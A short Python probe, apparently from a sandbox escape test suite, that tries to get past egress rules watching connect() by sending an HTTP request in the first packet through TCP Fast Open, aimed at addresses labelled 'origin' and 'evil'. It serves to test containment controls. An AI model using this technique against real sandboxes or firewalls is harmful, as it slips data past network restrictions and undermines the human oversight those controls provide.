"""Sends data with the first packet (TCP fast open, sendto), where a rule for connect() does not look."""
# outside: escapes

import socket
import struct

from attempt import FACTS, attempt, every


def send(address):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET) as sock:
        for option in (socket.SO_SNDTIMEO, socket.SO_RCVTIMEO):
            sock.setsockopt(socket.SOL_SOCKET, option, struct.pack("ll", 3, 0))
        sock.sendto(b"GET /fast-open HTTP/1.0\r\n\r\n", 0x20000000, (address, 80))
        return sock.recv(20)


@attempt
def main():
    return every([lambda address=address: send(address) for address in (*FACTS["address"]["origin"], *FACTS["address"]["evil"])])
